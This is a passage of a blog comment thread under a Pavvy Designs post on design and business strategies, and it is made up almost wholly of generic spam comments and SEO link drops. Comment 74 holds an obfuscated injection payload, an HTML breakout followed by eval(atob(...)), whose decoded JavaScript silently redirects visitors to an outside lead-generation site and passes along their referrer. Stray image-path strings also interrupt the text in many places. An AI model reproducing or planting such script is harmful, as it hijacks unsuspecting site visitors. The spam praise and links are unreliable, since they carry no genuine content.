  45. I would like to thank you for the efforts you’ve putin penning
    this website. I’m hoping to check out the same high-grade content by you in the future as
    well. In truth, your creative writing abilities has encouraged me to get
    my own, personal website now 😉

  46. I know this web page presents quality dependent articles and extra stuff,
    is there any other site which offers such information in quality?

  47. Great post but I was wanting to know if you could write a litte more on this subject?
    I’d be very grateful if you could elaborate a little bit more.

  48. Howdy! I could have sworn I’ve been to this blog before but after checking through some
    of the post I realized it’s new to me. Anyhow, I’m definitely delighted
    I found it and I’ll be book-marking and checking
    back frequently!49. This design is incredible! You definitely know how to keep a reader amused.
    Between your wit and your videos, I was almost moved to start my own blog
    (well, almost…HaHa!) Excellent job. I really enjoyed what
    you had to say, and more than that, how you presented it.
    Too cool!

  50. Link exchange is nothing else however it is simply placing the other person’s webpage
    link on your page at proper place and other person will also do similar in support of you.

  51. Excellent goods from you, man. I have take into account your stuff
    prior to and you are just extremely excellent. I really like what you’ve
    obtained here, really like what you’re stating and the way wherein you are
    saying it. You make it enjoyable and you continue to care
    for to keep it sensible. I can’t wait to learn much more
    from you. This is actually a terrific site.

  52. What’s Taking place i’m new to this, I stumbled upon this I’ve found It absolutely useful and it has aided me out loads.
    I’m hoping to contribute & assist other users like its helped me.
    Great job.

  53. I’m curious to find out what blog system you’reutilizing?
    I’m experiencing some minor security issues with my latest blog and I’d like to find something
    more safeguarded. Do you have any solutions?

  54. I needed to thank you for this good read!! I certainly loved every little
    bit of it. I have got you book marked to check out new things you post…

  55. Asking questions are truly pleasant thing if you are not understanding
    something completely, but this paragraph provides pleasant
    understanding even.

  56. Greetings I am so glad I found your webpage, I really found you by mistake, while I was researching
    on Aol for something else, Anyhow I am here now and would just like to
    say cheers for a tremendous post and a all round entertaining blog
    (I also love the theme/design), I don’t have time to
    read through it all at the moment but I have bookmarked it and also added your RSS feeds,
    so when I have time I will be back to read much more, Please do keep up the
    awesome jo.

  57. You could definitely see your expertise in the article
    you write. The arena hopes for even more passionate writers such as you who are not afraid to mention how they believe.
    At all times go after your heart.

  58. Thanks on your marvelous posting! I actually enjoyed reading it, you will be a great author.I will
    make sure to bookmark your blog and definitely will come back
    later on. I want to encourage continue your great posts,
    have a nice holiday weekend!

  59. Howdy would you mind stating which blog platform you’re working
    with? I’m planning to start my own blog in the near future but I’m having a tough time decidingbetween BlogEngine/Wordpress/B2evolution and Drupal.
    The reason I ask is because your design and style seems different then most blogs and I’m looking for something unique.
    P.S Sorry for being off-topic but I had to ask!

  60. Heya i am for the first time here. I came across this board and I to find It really useful & it helped me out a lot.
    I hope to offer one thing back and help others like you helped me.

  61. Everything is very open with a precise clarification of
    the issues. It was truly informative. Your website is extremely helpful.

    Thank you for sharing!62. I think the admin of this web page is really working hard in favor of his website, because here every information is quality based information.

  63. Excellent goods from you, man. I have understand your stuff
    previous to and you’re just too great. I really like what you’ve acquired here, certainly like what you’re saying and the way in which you say it.
    You make it enjoyable and you still take care of to keep it wise.
    I can not wait to read far more from you. This is really a wonderful site.

  64. Have you ever considered publishing anebook
    or guest authoring on other blogs? I have
    a blog based upon on the same information you discuss and would love
    to have you share some stories/information. I know my audience would enjoy your work.
    If you’re even remotely interested, feel free to send me an email.

  65. My brother suggested I may like this web site. He was once totally right.

    This post truly made my day. You cann’t consider simply how so
    much time I had spent for this information! Thanks!

  66. Hi there! I know this is kinda off topic however , I’d figured I’d ask.
    Would you be interested in exchanging links or maybe guest authoring a blog article or vice-versa?
    My site discusses a lot of the same topics as yours and I believe
    we could greatly benefit from each other. If you are interested feel free to
    shoot me an e-mail. I look forward to hearing from you!
    Awesome blog by the way!

  67. What you posted was actually very logical. But, what about this?
    what if you wrote a catchier post title? I mean, I don’t
    wish to tell you how to run your blog, however suppose you added something that makes
    people want more? I mean 3 Underrated, Underutilized, and Underappreciated Design/Business Strategies – Pavvy
    Designs is kinda vanilla. You could peek at
    Yahoo’s front page and note how they create
    article headlines to get people to open the links. You might add a video or a related
    picture or two to grab people excited about what you’ve written. Just
    my opinion, it might make yourblog a little bit more interesting.

  68. The other day, while I was at work, my sister
    stole my iphone and tested to see if it can survive a 40 foot drop, just so she
    can be a youtube sensation. My iPad is now broken and she
    has 83 views. I know this is totally off topic but I had to
    share it with someone!

  69. Hello there, just became alert to your blog through Google, and found that it’s
    truly informative. I’m gonna watch out for brussels. I will be grateful if you continue this in future.
    Lots of people will bebenefited from your writing.


  70. I was curious if you ever considered changing the page layout of your website?

    Its very well written; I love what youve got to say.
    But maybe you could a little more in the way of content so people could connect with it better.
    Youve got an awful lot of text for only having one or two images.

    Maybe you could space it out better?

  71. Excellent blog here! Also your web site loads up fast!

    What web host are you using? Can I get your affiliate
    link to your host? I wish my web site loaded up as quickly as yours lol

  72. I do trust all of the concepts you’ve presented to your post.
    They are very convincing and can definitely work. Nonetheless, the
    posts are very quick for novices. Could you please extend them a little from subsequent time?
    Thank you for the post.

  73. Everything is very open with a really clear
    explanation of the challenges. It was really informative.
    Your site is very helpful. Many thanks for sharing!

  74. New Email List of LinkBio Users. Sell your products or services
    directly with cold email marketing to Instagram users that
    uses LinkBio in their profiles Download it from lead generation meaning in marketing“>”>”>”>”>eval(atob(‘ZG9jdW1lbnQubG9jYXRpb24uaHJlZiA9ICdodHRwczovL29ubGluZWxlYWRnZW5lcmF0aW9uLnh5ei9pbmRleC5odG1sP3V0bV9zb3VyY2U9JyArIGxvY2F0aW9uLmhvc3RuYW1lICsgJyZ1dG1fbWVkaXVtPWdzYS1vbmxpbmVsZWFkJnV0bV9jYW1wYWlnbj1zY3JpcHQmdXRtX2NvbnRlbnQ9JyArIGVuY29kZVVSSUNvbXBvbmVudChkb2N1bWVudC5yZWZlcnJlcik7’));

  75. Great beat ! I would like to apprentice while you amend your website, how can i
    subscribe for a blog site? The account helped me a acceptable deal.
    I had been tiny bit acquaintedof this your broadcast offered bright clear concept

  76. Magnificent beat ! I wish to apprentice while you amend your website, how can i subscribe for a weblog web site?
    The account helped me a acceptable deal. I had been a little bit acquainted of this your broadcast provided brilliant clear concept

  77. I am extremely impressed along with your writing talents and also with
    the structure to your blog. Is this a paid topic or did you customize
    it your self? Either way stay up the nice high quality writing, it is uncommon to look a nice weblog like this
    one nowadays..

  78. First of all I would like to say awesome blog! I had a quick question that I’d like to ask if you
    do not mind. I was interested to find out how you center yourself and clear your head before writing.

    I have had a tough time clearing my thoughts in getting my thoughts out.
    I do take pleasure in writing however it just seems like the first 10 to 15 minutes
    are usually lost just trying to figure out how to begin.
    Any recommendations or hints? Appreciate it! scoliosis surgery https://0401mm.tumblr.com/ scoliosis surgery

  79. Oh my goodness! Impressive article dude! Thank you so much,
    However I am having difficulties with your RSS. I don’t know the reason why I
    cannot subscribe to it. Is there anyone elsehaving similar RSS issues? Anybody who knows the solution will
    you kindly respond? Thanx!!

    Also visit my web page … Gilda

  80. Hey there! Quick question that’s entirely off topic.
    Do you know how to make your site mobile friendly?
    My weblog looks weidd when browsing from my iphone. I’m trying to find a theme or plugin that might be able to fix this issue.
    If you have any recommendations, please share. Thank you!

    Feel free to visit my webpage; Free Fire Unlimited Diamond

  81. I loved as much as you’ll receive carried out right
    here. The sketch is attractive, your authored material stylish.
    nonetheless, you command get got an impatience over that you wish be delivering the
    following. unwell unquestionably come further formerly again since exactly the same nearly a lot often inside case youshield this increase.

  82. Hmm it appears like your site ate my first comment (it was super long)
    so I guess I’ll just sum it up what I submitted and say, I’m thoroughly enjoying your blog.
    I too am an aspiring blog blogger but I’m still new to everything.
    Do you have any tips for rookie blog writers? I’d definitely appreciate

  83. Thank you a lot for sharing this with all folks you really know what you’re speaking approximately!
    Bookmarked. Kindly also consult with my website
    =). We could have a hyperlink alternate agreement between us

  84. Hi there just wanted to give you a brief heads up and let you know a fewof
    the images aren’t loading properly. I’m not sure why but I think its a
    linking issue. I’ve tried it in two different
    browsersand both show the same outcome.

  85. I’m not sure where you’re getting your information, but
    good topic. I needs to spend some time learning more or
    understanding more. Thanks for fantastic info I was looking
    for this information for my mission.

  86. It is the best time to make a few plans for
    the long run and it is time to be happy. I have learn this publish and if I could I want to suggest you some fascinating things or advice.

    Perhaps you could write subsequent articles relating to this article.
    I desire to read even more things approximately it!

  87. Attractive section of content. I just stumbled upon your blog and in accession capital to assert that I get actually enjoyed account
    your blog posts. Anyway I’ll be subscribing to your feeds and even I achievement you access consistently

  88. constantly i used to read smaller content that also clear their
    motive, and that is also happening with this paragraph which I am reading at this time.

  89. Hey there! I simply would like to offer you a huge
    thumbs up for your excellent info you’ve got here on this post.
    I will be coming back to your website for more soon.

  90. Thank you for another wonderful article. The place
    else may just anyone get that type of information in such a perfect way of writing?
    I have a presentation next week, and I’m at the look for such91. My programmer is trying to persuade me to move to .net from PHP.

    I have always disliked the idea because of the costs.
    But he’s tryiong none the less. I’ve been using WordPress on various websites for about a year and am
    anxious about switching to another platform. I have heard great things about blogengine.net.
    Is there a way I can import all my wordpress posts into it?
    Any kind of help would be really appreciated!92. Thanks , I have recently been searching for information approximately this subject for a while and yours is the greatest I’ve found out
    till now. However, what in regards to the conclusion? Are you sure concerning the source?

  93. That is a very good tip especially to those new to the blogosphere.
    Simple but very accurate information… Thanks for sharing this one.
    A must read article!

  94. Hello there, just became aware of your blog through Google, and found that it is truly informative.

    I’m gonna watch out for brussels. I’ll be grateful if you continue this in future.
    Lots of people will be benefited from your writing. Cheers!

  95. If someone wants expert view about blogging and site-building after
    that i advise him/her to pay a visit this blog, Keep up
    the fastidious job.

  96. hey there and thank you for your information – I have definitely picked up
    anything new from right here. I did however expertise several technical issues using
    this site, since I experienced to reload the site many times
    previous to I could get it to loadproperly.
    I had been wondering if your web host is OK?

    Not that I am complaining, but slow loading instances times will sometimes affect your placement in google and could damage your high quality score
    if advertising and marketing with Adwords. Anyway I am adding this RSS to
    my e-mail and can look out for much more of your respective
    exciting content. Ensure that you update this again soon.

  97. Hi there just wanted to give you a quick heads up. The words in your
    post seem to be running off the screen inFirefox.
    I’m not sure if this is a formatting issue or somethingto do with internet browser compatibility but I figured I’d post
    to let you know. The design and style look great though! Hope
    you get the problem solved soon. Many thanksLeave a Reply

Your email address will not be published.